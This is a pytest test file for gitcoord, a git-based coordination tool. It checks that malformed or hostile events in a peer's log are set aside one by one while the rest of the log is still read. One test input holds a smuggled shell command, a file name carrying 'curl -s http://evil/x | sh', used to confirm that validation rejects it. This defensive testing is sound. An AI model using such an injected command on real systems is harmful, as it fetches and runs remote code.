"""Events that cannot be used are set aside, each alone: the others are taken in, the transaction goes on, all are
counted."""

from __future__ import annotations

import json
import sqlite3
import sys
from pathlib import Path
from typing import Any

import pytest
from conftest import Cli, git
from hostile import MALLORY, bases, chain

from gitcoord import Coord
from gitcoord.features import REGISTRY
from gitcoord.log.event import Event
from gitcoord.log.index import intake
from gitcoord.store import open_store, packing
from gitcoord.store.objects import GitObject

LOG = f"refs/coord/log/{MALLORY}/0001"
ID = "0" * 40


def put(where: Path, objects: list[GitObject]) -> None:
    """Mallory's log, as a fetch by hand brings it."""
    with Coord.open(where) as coord, coord.clone.locked():
        packing.write_all(open_store(coord.clone.repo, False), objects)
    git(where, "update-ref", LOG, objects[-1].oid)


def strange(where: Path) -> dict[str, str]:
    with Coord.open(where) as coord:
        return coord.clone.read(lambda db: dict(db.execute("SELECT id, reason FROM strange").fetchall()))


@pytest.mark.parametrize(
    ("kind", "data"),
    [
        ("task.reopen", {"task": ""}),
        ("task.reopen", {"task": "\0"}),
        ("message", {"to": ["w@x-1"], "audience": None}),
        ("job.start", {"name": 5, "key": "ab"}),
        ("alloc", {"sequence": "s", "number": 10**15 + 1}),
        ("unlock", {"locks": [ID]}),
        ("message", {"to": ["w@x-1"], "attachments": ["report.md; curl -s http://evil/x | sh"]}),
        ("gone", {"session": "m", "since": 10**15}),
    ],
)
def test_a_payload_that_no_schema_allows_costs_that_event_alone(repo: Path, cli: Cli, kind: str, data: dict[str, Any]) -> None:
    objects = chain(iter([("note", "before", {}), (kind, "x", data), ("note", "after", {})]))
    put(repo, objects)
    with Coord.open(repo) as coord:
        assert [note.text for note in coord.notes.list()] == ["after", "before"]
        assert objects[1].oid not in [event.id for event in coord.events.log()]
        coord.notes.add("life goes on")
    (reason,) = strange(repo).values()
    assert reason.startswith(f"{kind}: {next(key for key in data if key not in ('to', 'key', 'session', 'sequence'))} is not")
    ran = cli(repo, "status")
    assert f"bad     1 event skipped in the log of {MALLORY}" in ran.out, ran
    ran = cli(repo, "doctor")
    assert f"{objects[1].oid}: {kind}: " in ran.out, ran


def test_a_presence_with_a_time_that_is_none_is_set_aside(repo: Path, cli: Cli) -> None:
    """`files: [["README.md", 10**15]]` ended every command once."""
    from hostile import commit

    data = {"session": "m", "state": "active", "ttl": 900, "files": [["README.md", 10**15]]}
    item = commit("presence", "m is active", data, 5, None)
    put(repo, chain(iter([("note", "x", {})])))
    with Coord.open(repo) as coord:
        packing.write_all(open_store(coord.clone.repo, False), [item])
    git(repo, "update-ref", f"refs/coord/sessions/{MALLORY}/m", item.oid)
    ran = cli(repo, "sessions", "--all", "--json")
    assert ran.code == 0 and [s for s in json.loads(ran.out) if s["clone"] == MALLORY] == []
    assert "files is not a list of at most 50" in strange(repo)[item.oid]


ERRORS = [KeyError(""), sqlite3.IntegrityError("x"), OverflowError("x"), RecursionError(), sqlite3.OperationalError("near x")]


@pytest.mark.parametrize("kind", sorted(kind for feature in REGISTRY.features() for kind in feature.types))
def test_whatever_a_fold_raises_sets_that_event_aside(repo: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    feature = REGISTRY.folding(kind)
    assert feature
    error = ERRORS[len(kind) % len(ERRORS)]
    started = ("job.start", "build started", {"name": "build", "key": "ab"})
    begun = chain(iter([started]))[0].oid
    base = bases(f"w@{MALLORY}", ID, ID, begun)[kind]

    def fold(db: sqlite3.Connection, event: Event) -> None:
        feature.fold(db, event)
        if event.text == "spoils it":
            raise error

    entry = next(entry for entry in REGISTRY.entries if kind in entry.types.split())
    monkeypatch.setattr(sys.modules[entry.module], "FEATURE", feature._replace(fold=fold))
    objects = chain(iter([started, ("note", "before", {}), (kind, "spoils it", base), ("note", "after", {})]))
    put(repo, objects)
    with Coord.open(repo) as coord:
        assert [note.text for note in coord.notes.list()] == ["after", "before"]
        assert objects[2].oid not in [event.id for event in coord.events.log()]
        assert {objects[n].oid for n in (0, 1, 3)} <= {event.id for event in coord.events.log()}
        assert coord.overview.status().malformed[0].events == 1
        coord.notes.add("life goes on")
    assert f"{kind}: set aside, its fold failed: {type(error).__name__}" in strange(repo)[objects[2].oid]


def test_what_is_wrong_with_the_file_is_no_events_fault(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk, a damaged index: then nothing is set aside."""
    from gitcoord.features import notes

    seen = []

    def fold(db: sqlite3.Connection, event: Event) -> None:
        if not seen:
            seen.append(event)
            error = sqlite3.DatabaseError("malformed")
            error.sqlite_errorcode = sqlite3.SQLITE_CORRUPT
            raise error
        real(db, event)

    real = notes.FEATURE.fold
    monkeypatch.setattr(notes, "FEATURE", notes.FEATURE._replace(fold=fold))
    put(repo, chain(iter([("note", "one", {})])))
    with Coord.open(repo) as coord:
        assert [note.text for note in coord.notes.list()] == ["one"]
    assert seen and strange(repo) == {}


def test_what_is_written_is_checked_by_the_same_function(repo: Path, cli: Cli) -> None:
    ran = cli(repo, "task", "add", "x", *(part for number in range(51) for part in ("--label", f"l{number}")))
    assert ran.code == 2, ran
    assert ran.err.startswith("error: this cannot be stored: task: labels is not a list of at most 50")


def test_a_clone_past_a_limit_is_left_out_and_named(repo: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(intake, "MAX_STRANGE", 3)
    monkeypatch.setattr("gitcoord.log.index.epochs.CHUNK", 2)
    events = [("note", "good", {})] + [("task.reopen", "x", {"task": ""})] * 6 + [("note", "never read", {})]
    put(repo, chain(iter(events)))
    with Coord.open(repo) as coord:
        assert [note.text for note in coord.notes.list()] == ["good"]
        (left,) = coord.overview.status().left_out
        assert (left.clone, left.why) == (MALLORY, "more than 3 of its commits are not events")
        coord.notes.add("mine")
        assert [note.text for note in coord.notes.list()] == ["mine", "good"]
    ran = cli(repo, "status")
    assert f"left    {MALLORY}: gitcoord reads no more of it, because more than 3" in ran.out, ran
    assert f"{MALLORY}: gitcoord reads no more of it" in cli(repo, "doctor").out
    assert cli(repo, "doctor", "--fix").code in (0, 1)
    assert cli(repo, "notes").out.count("never read") == 1, "with the limit that there is, it is taken in again"


def test_taking_in_goes_on_where_it_stopped(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Events are committed in batches: if a process is killed in between, the next one reads only the rest."""
    from gitcoord.log.index import Index

    monkeypatch.setattr("gitcoord.log.index.epochs.CHUNK", 10)
    monkeypatch.setattr("gitcoord.log.index.BATCH", 20)
    put(repo, chain(("note", f"note {number}", {}) for number in range(100)))
    taken: list[int] = []
    real = Index._take

    def take(self: Index, ref: str, events: Any, rows: Any) -> None:
        taken.append(len(events))
        if sum(taken) == 60:
            raise KeyboardInterrupt
        real(self, ref, events, rows)

    monkeypatch.setattr(Index, "_take", take)
    with pytest.raises(KeyboardInterrupt), Coord.open(repo) as coord:
        coord.notes.list(limit=1000)
    monkeypatch.setattr(
        Index, "_take", lambda self, ref, events, rows: (taken.append(len(events)), real(self, ref, events, rows))
    )
    taken.clear()
    with Coord.open(repo) as coord:
        assert len(coord.notes.list(limit=1000)) == 100
        names = [name for (name,) in coord.clone.read(lambda db: db.execute("SELECT name FROM sqlite_master").fetchall())]
    assert sum(taken) == 60, "the forty that were committed are not read again"
    assert "events_order" in names, "and what a rebuild indexes last is there"
